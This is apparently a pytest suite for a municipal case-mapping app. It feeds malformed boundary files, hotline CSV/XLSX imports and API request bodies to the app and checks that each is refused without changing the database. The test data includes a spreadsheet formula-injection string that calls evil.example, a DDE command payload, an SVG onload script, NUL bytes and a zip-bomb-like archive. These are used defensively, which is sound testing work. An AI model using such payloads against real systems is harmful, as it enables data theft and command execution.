"""The bad-input corpus: malformed boundary files, 12345 imports and API bodies, each with the
refusal it must get, and proof that nothing in the database changed.

One committed database for the module (the tiny hierarchy, departments, duty list and a case).
Each item runs the real entry point (``gridmap boundaries load``, ``gridmap cases import``, or an
HTTP request to the app over that database), checks the refusal (exit status or HTTP status, and
the error's ``code`` and ``field``), and compares a snapshot of every table (row count and a
digest of all rows) before and after. The narrower tests in test_boundary_files.py,
test_case_import.py and test_case_api.py cover each rule's message; this sweep covers "refused
and unchanged" across every entry point.
"""

from __future__ import annotations

import json
import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from typing import Any

import geopandas as gpd
import pandas as pd
import pytest
import shapely
from click.testing import CliRunner
from sqlalchemy import create_engine, text
from sqlalchemy.orm import Session

import webmap.cli
import webmap.cli.context
from geo.services import accounts, cases
from tests import geometries as g
from tests.conftest import _admin, _clone, load_tiny_hierarchy, load_tiny_reference
from webmap import create_app

#: Tables whose rows change on every authenticated request by design (token last use).
VOLATILE = {"api_token"}
EAST = {"lon": 116.3175, "lat": 39.9025}
COLUMNS = ["工单编号", "受理时间", "问题分类", "诉求内容", "经度", "纬度"]
GOOD_ROW = ["T-1", "2026/11/01 08:00:00", "0101", "垃圾", 116.3025, 39.9025]


@pytest.fixture(scope="module")
def db(admin_url, template_db, tmp_path_factory):
    name, url = _clone(admin_url, template_db)
    engine = create_engine(url)
    folder = tmp_path_factory.mktemp("bad_input_setup")
    with Session(engine) as session, session.begin():
        load_tiny_hierarchy(session, folder / "boundaries")
        load_tiny_reference(session, folder / "reference")
        leader = accounts.create_user(session, "bad_leader", role="street_leader", scope="110101",
                                      password="password-bad")
        cases.create_case(session, cases.NewCase(category="0101", **EAST), user=leader)
        token = accounts.create_token(session, "bad_leader")[1]
    yield {"url": url, "engine": engine, "token": token}
    engine.dispose()
    _admin(admin_url, f"DROP DATABASE IF EXISTS {name} WITH (FORCE)")


def snapshot(engine) -> dict[str, tuple[int, str | None]]:
    """Every table of the public schema: (rows, md5 of all rows); volatile tables by count only."""
    with engine.connect() as conn:
        tables = conn.execute(text(
            "SELECT tablename FROM pg_tables WHERE schemaname = 'public' ORDER BY tablename")).scalars().all()
        out = {}
        for table in tables:
            digest = "NULL" if table in VOLATILE else "md5(string_agg(t::text, '|' ORDER BY t::text))"
            out[table] = tuple(conn.execute(text(f'SELECT count(*), {digest} FROM "{table}" t')).one())
        return out


def unchanged(db, run: Callable[[], Any]) -> Any:
    """``run()``'s result, after asserting that no table changed while it ran."""
    before = snapshot(db["engine"])
    result = run()
    after = snapshot(db["engine"])
    changed = {t: (before[t], after.get(t)) for t in before if before[t] != after.get(t)}
    assert not changed, f"the database changed: {changed}"
    return result


# --- the CLI: boundary files and 12345 imports ------------------------------------------------------


@pytest.fixture
def cli(db, monkeypatch):
    """Run ``gridmap ARGS`` against the module database; (exit code, output, the domain error or None)."""
    caught = []
    original = webmap.cli.context._fail

    def remember(exc):
        caught.append(exc)
        original(exc)

    monkeypatch.setattr(webmap.cli.context, "_fail", remember)

    def run(*args: str):
        result = CliRunner().invoke(webmap.cli.main, list(args), env={"DATABASE_URL": db["url"]})
        return result.exit_code, result.output, caught[-1] if caught else result.exception

    return run


def _streets(**changes) -> gpd.GeoDataFrame:
    frame = g.frame("street")
    for column, values in changes.items():
        frame[column] = values
    return frame


def truncated_shapefile(d: Path) -> Path:
    path = g.write(_streets(), d / "streets.shp")
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return path


def shapefile_without_dbf(d: Path) -> Path:
    path = g.write(_streets(), d / "streets.shp")
    path.with_suffix(".dbf").unlink()
    return path


def geojson_with_a_point(d: Path) -> Path:
    frame = _streets()
    frame.loc[1, "geometry"] = shapely.Point(116.31, 39.90)
    return g.write(frame, d / "streets.geojson")


def outside_china(d: Path) -> Path:
    return g.write(_streets().set_geometry(_streets().geometry.translate(-100, 10)), d / "streets.geojson")


def metres_declared_as_degrees(d: Path) -> Path:
    frame = _streets().to_crs("EPSG:4548").set_crs("EPSG:4326", allow_override=True)
    return g.write(frame, d / "streets.geojson")


def gbk_read_as_utf8(d: Path) -> Path:
    path = g.write(_streets(), d / "streets.shp", encoding="GBK")
    path.with_suffix(".cpg").unlink(missing_ok=True)
    return path


def duplicate_codes(d: Path) -> Path:
    return g.write(_streets(code=["110101001", "110101001"]), d / "streets.geojson")


def empty_file(d: Path) -> Path:
    path = d / "streets.geojson"
    path.write_bytes(b"")
    return path


def no_features(d: Path) -> Path:
    path = d / "streets.geojson"
    path.write_text(json.dumps({"type": "FeatureCollection", "features": []}), encoding="utf-8")
    return path


def not_json(d: Path) -> Path:
    path = d / "streets.geojson"
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4)
    return path


def zip_bomb_ish(d: Path) -> Path:
    """A zip whose one member inflates to 64 MB of zeros: not a boundary file, refused, nothing read into the DB."""
    path = d / "streets.zip"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("streets.geojson", b"\0" * (64 * 1024 * 1024))
    return path


def child_outside_its_parent(d: Path) -> Path:
    frame = g.frame("community")
    frame["geometry"] = frame.geometry.translate(0.5, 0)
    return g.write(frame, d / "communities.geojson")


BOUNDARY_CORPUS = {  # name: (maker, extra CLI args, expected code, expected field or None)
    "truncated shapefile": (truncated_shapefile, (), "missing_geometry", "geometry"),
    "shapefile without .dbf": (shapefile_without_dbf, (), "incomplete_shapefile", "path"),
    "GeoJSON with a point": (geojson_with_a_point, (), "not_polygon", None),
    "outside China": (outside_china, (), "crs_mismatch", "crs"),
    "metres declared as degrees": (metres_declared_as_degrees, (), "crs_mismatch", "crs"),
    "GBK read as UTF-8": (gbk_read_as_utf8, ("--encoding", "utf-8"), "bad_encoding", "encoding"),
    "duplicate codes": (duplicate_codes, (), "duplicate_code", None),
    "empty file": (empty_file, (), "unreadable_file", None),
    "no features": (no_features, (), "empty_file", None),
    "binary junk": (not_json, (), "unreadable_file", None),
    "zip bomb-ish": (zip_bomb_ish, (), "unreadable_file", None),
    "community outside every street": (child_outside_its_parent, ("--level", "community"), "missing_parent", None),
}


@pytest.mark.parametrize("item", sorted(BOUNDARY_CORPUS))
def test_bad_boundary_file_is_refused_and_changes_nothing(db, cli, tmp_path, item):
    maker, extra, code, field = BOUNDARY_CORPUS[item]
    path = maker(tmp_path)
    level = () if "--level" in extra else ("--level", "street")
    exit_code, output, error = unchanged(db, lambda: cli("boundaries", "load", str(path), *level, *extra))
    assert exit_code == 1, output
    assert getattr(error, "code", None) == code, output
    if field:
        assert error.field == field


def _table(rows, path: Path, *, columns=COLUMNS, encoding="utf-8") -> Path:
    frame = pd.DataFrame(rows, columns=columns)
    if path.suffix == ".xlsx":
        frame.to_excel(path, index=False)
    else:
        frame.to_csv(path, index=False, encoding=encoding)
    return path


def _row(**changes):
    row = dict(zip(COLUMNS, GOOD_ROW, strict=True))
    row.update(changes)
    return list(row.values())


def _raw(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def mixed_encodings(d: Path) -> Path:
    path = d / "mixed.csv"
    head = ",".join(COLUMNS).encode("utf-8") + b"\n"
    utf8 = "T-1,2026/11/01 08:00:00,0101,东门垃圾,116.3025,39.9025\n".encode()
    gbk = "T-2,2026/11/01 08:00:00,0101,西门垃圾,116.3025,39.9025\n".encode("gbk")
    path.write_bytes(head + utf8 + gbk)
    return path


def corrupt_xlsx(d: Path) -> Path:
    path = d / "export.xlsx"
    path.write_bytes(b"PK\x03\x04" + b"not really a workbook" * 50)
    return path


IMPORT_CORPUS = {  # name: (maker, exit code, expected code or rejected reason)
    "missing columns": (lambda d: _table([GOOD_ROW[:4]], d / "a.csv", columns=COLUMNS[:4]), 1, "missing_field"),
    "empty file": (lambda d: _raw(d / "a.csv", b""), 1, "empty_file"),
    "corrupt xlsx": (corrupt_xlsx, 1, "unreadable_file"),
    # Sniffed as GBK (the UTF-8 part does not decode as one): the header garbles, the id column is not found.
    "mixed encodings": (mixed_encodings, 1, "mixed_encoding"),
    "unsupported format": (lambda d: _raw(d / "a.json", b"[]"), 1, "unsupported_format"),
    "bad coordinates": (lambda d: _table([_row(经度="东经116度"), _row(工单编号="T-2", 经度=None),
                                          _row(工单编号="T-3", 经度=39.9, 纬度=116.3)], d / "a.csv"),
                        0, ["non_numeric_coordinates", "missing_coordinates", "out_of_range_coordinates"]),
    "outside the area": (lambda d: _table([_row(经度=117.5, 纬度=40.5)], d / "a.csv"), 0, ["outside_area"]),
    "bad dates": (lambda d: _table([_row(受理时间="下周一"), _row(工单编号="T-2", 受理时间="2026-13-45")],
                                   d / "a.csv"), 0, ["bad_time", "bad_time"]),
    "bad category": (lambda d: _table([_row(问题分类="9999"), _row(工单编号="T-2", 问题分类="外星人")], d / "a.xlsx"),
                     0, ["unknown_category", "unknown_category"]),
}


@pytest.mark.parametrize("item", sorted(IMPORT_CORPUS))
def test_bad_import_is_refused_and_changes_nothing(db, cli, tmp_path, item):
    maker, exit_code, expected = IMPORT_CORPUS[item]
    path = maker(tmp_path)
    rejects = tmp_path / "rejects.csv"
    exit_code_, output, error = unchanged(db, lambda: cli(
        "cases", "import", str(path), "--crs", "wgs84", "--source", "12345", "--rejects", str(rejects)))
    assert exit_code_ == exit_code, output
    if exit_code:
        assert getattr(error, "code", None) == expected, output
    else:
        assert "导入 0" in output, output
        assert pd.read_csv(rejects, dtype=str, encoding="utf-8-sig")["reason"].tolist() == expected


@pytest.fixture
def own_db(fresh_db, tmp_path, monkeypatch):
    """A database of its own: this import succeeds, and case events can never be deleted."""
    engine = create_engine(fresh_db)
    with Session(engine) as session, session.begin():
        load_tiny_hierarchy(session, tmp_path / "boundaries")
        load_tiny_reference(session, tmp_path / "reference")
    yield {"url": fresh_db, "engine": engine}
    engine.dispose()


def test_formula_in_a_description_is_stored_as_text_and_exported_inert(own_db, tmp_path):
    def cli(*args):
        result = CliRunner().invoke(webmap.cli.main, list(args), env={"DATABASE_URL": own_db["url"]})
        return result.exit_code, result.output, result.exception

    db = own_db
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    path = _table([_row(工单编号="F-1", 诉求内容=formula), _row(工单编号="F-2", 诉求内容="+cmd|' /C calc'!A0")],
                  tmp_path / "a.csv")
    exit_code, output, _ = cli("cases", "import", str(path), "--crs", "wgs84", "--source", "formula")
    assert exit_code == 0 and "导入 2" in output, output
    with db["engine"].connect() as conn:
        stored = conn.execute(text("SELECT description FROM cases WHERE source = 'formula' ORDER BY external_id")
                              ).scalars().all()
    assert stored == [formula, "+cmd|' /C calc'!A0"]  # kept exactly as reported
    out = tmp_path / "cases.csv"
    exit_code, output, _ = cli("cases", "export", "-o", str(out), "--format", "csv", "--source", "formula")
    assert exit_code == 0, output
    exported = pd.read_csv(out, dtype=str, encoding="utf-8-sig")["description"].tolist()
    assert sorted(exported) == sorted(["'" + formula, "'+cmd|' /C calc'!A0"])


# --- the API ---------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def api(db):
    app = create_app({"DATABASE_URL": db["url"], "GRIDMAP_SECRET_KEY": "test", "TESTING": True})
    client = app.test_client()
    client.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {db['token']}"
    return client


def _case_id(db) -> str:
    with db["engine"].connect() as conn:
        return conn.execute(text("SELECT case_no FROM cases ORDER BY id LIMIT 1")).scalar_one()


BODY = {**EAST, "category": "0101"}
API_CORPUS = {  # name: (path, raw body, content type, status, code, field)
    "lon as a string": ("/api/cases", {**BODY, "lon": "116.3"}, None, 422, "invalid_input", "lon"),
    "lon as a boolean": ("/api/cases", {**BODY, "lon": True}, None, 422, "invalid_input", "lon"),
    "lat missing": ("/api/cases", {"lon": 116.3, "category": "0101"}, None, 422, "invalid_input", "lat"),
    "NaN": ("/api/cases", '{"lon": NaN, "lat": 39.9, "category": "0101"}', None, 422, "invalid_input", "lon"),
    "Infinity": ("/api/cases", '{"lon": Infinity, "lat": 39.9, "category": "0101"}', None, 422, "invalid_input",
                 "lon"),
    "1e999": ("/api/cases", '{"lon": 1e999, "lat": 39.9, "category": "0101"}', None, 422, "invalid_input", "lon"),
    "out of range": ("/api/cases", {**BODY, "lon": 1000.0}, None, 422, None, None),
    "nested junk": ("/api/cases", {**BODY, "category": {"a": [1, {"b": None}]}}, None, 422, "invalid_input",
                    "category"),
    "list instead of object": ("/api/cases", [BODY], None, 422, "invalid_input", None),
    "unknown field": ("/api/cases", {**BODY, "status": "closed"}, None, 422, "invalid_input", "status"),
    "description too long": ("/api/cases", {**BODY, "description": "长" * 5001}, None, 422, "invalid_input",
                             "description"),
    "body over 64 KB": ("/api/cases", {**BODY, "description": "x" * 70_000}, None, 413, None, "body"),
    "huge number string": ("/api/cases", '{"lon": ' + "9" * 5000 + ', "lat": 39.9, "category": "0101"}', None,
                           400, "bad_request", None),
    "unknown category": ("/api/cases", {**BODY, "category": "9999"}, None, 422, None, "category"),
    "bad crs": ("/api/cases", {**BODY, "crs": "EPSG:999999"}, None, 422, None, "crs"),
    "bad time": ("/api/cases", {**BODY, "reported_at": "下周一"}, None, 422, None, "reported_at"),
    "invalid JSON": ("/api/cases", '{"lon": 116.3,', None, 400, "bad_request", None),
    "not UTF-8": ("/api/cases", b'{"lon": 116.3, "description": "\xff\xfe"}', None, 400, "bad_request", None),
    "wrong content type": ("/api/cases", json.dumps(BODY), "text/plain", 422, None, None),
    "form instead of JSON": ("/api/cases", "lon=116.3&lat=39.9&category=0101", "application/x-www-form-urlencoded",
                             422, None, None),
    "unknown action": ("/api/cases/{case}/actions", {"action": "delete"}, None, 422, "invalid_input", "action"),
    "action note as object": ("/api/cases/{case}/actions", {"action": "void", "note": {"x": 1}}, None, 422,
                              "invalid_input", "note"),
    "void without a reason": ("/api/cases/{case}/actions", {"action": "void"}, None, 422, "reason_required",
                              "note"),
    "callback flags as strings": ("/api/cases/{case}/actions", {"action": "callback", "solved": "maybe"}, None,
                                  422, "invalid_input", "solved"),
    "whistle with 101 cases": ("/api/whistles", {"case_ids": ["x"] * 101, "lead_department": "CGW",
                                                 "reason": "群众诉求"}, None, 422, "invalid_input", "case_ids"),
    "whistle case ids not a list": ("/api/whistles", {"case_ids": "{case}", "lead_department": "CGW",
                                                      "reason": "群众诉求"}, None, 422, "invalid_input", "case_ids"),
    "whistle unknown department": ("/api/whistles", {"case_ids": ["{case}"], "lead_department": "NOPE",
                                                     "reason": "群众诉求"}, None, 422, None, "lead_department"),
}


@pytest.mark.parametrize("item", sorted(API_CORPUS))
def test_bad_api_body_is_refused_and_changes_nothing(db, api, item):
    path, body, content_type, status, code, field = API_CORPUS[item]
    case = _case_id(db)
    path = path.replace("{case}", case)
    if isinstance(body, (dict, list)):
        data = json.dumps(body).replace("{case}", case).encode()
    else:
        data = body.encode() if isinstance(body, str) else body
    resp = unchanged(db, lambda: api.post(path, data=data, content_type=content_type or "application/json"))
    assert resp.status_code == status, resp.get_data(as_text=True)[:300]
    error = resp.get_json()["error"]
    if code:
        assert error["code"] == code, error
    if field:
        assert error["field"] == field, error


def test_photo_that_is_not_an_image_is_refused_and_changes_nothing(db, api):
    case = _case_id(db)
    resp = unchanged(db, lambda: api.post(
        f"/api/cases/{case}/photos", data={"photo": (BytesIO(b"<svg onload=alert(1)>"), "x.png")},
        content_type="multipart/form-data"))
    assert resp.status_code == 422
    assert resp.get_json()["error"]["field"] == "photo"


@pytest.mark.parametrize(("method", "path", "kwargs", "status"), [
    ("GET", "/api/cases/ab%00cd", {}, 422),
    ("GET", "/api/boundaries/search?q=%00", {}, 422),
    ("POST", "/api/cases", {"data": "[" * 5000 + "]" * 5000, "content_type": "application/json"}, 400),
    ("GET", "/api/cases?from=0001-01-01", {}, 200),
    ("GET", "/api/stats/street.json?from=0001-01-01&to=0001-12-31", {}, 200),
    ("POST", "/api/cases", {"json": {"lon": 116.3, "lat": 39.9, "category": "0101",
                                     "reported_at": "0001-01-01T00:00:00"}}, 422),
], ids=["nul-in-path", "nul-in-query", "json-nested-5000-deep", "year-1-filter", "year-1-stats", "year-1-intake"])
def test_malformed_input_is_a_4xx_never_a_5xx(client, routed, method, path, kwargs, status):
    """NUL reached PostgreSQL (500), deep JSON hit the recursion limit (500): each is refused, or
    answered, naming what is wrong."""
    assert client.open(path, method=method, **kwargs).status_code == status


@pytest.mark.parametrize(("path", "kwargs"), [
    ("/open311/v2/requests.json?service_code=%00", {}),
    ("/open311/v2/requests/%00.json", {}),
])
def test_nul_in_public_endpoints_is_a_4xx(anon, routed, path, kwargs):
    assert 400 <= anon.open(path, **kwargs).status_code < 500
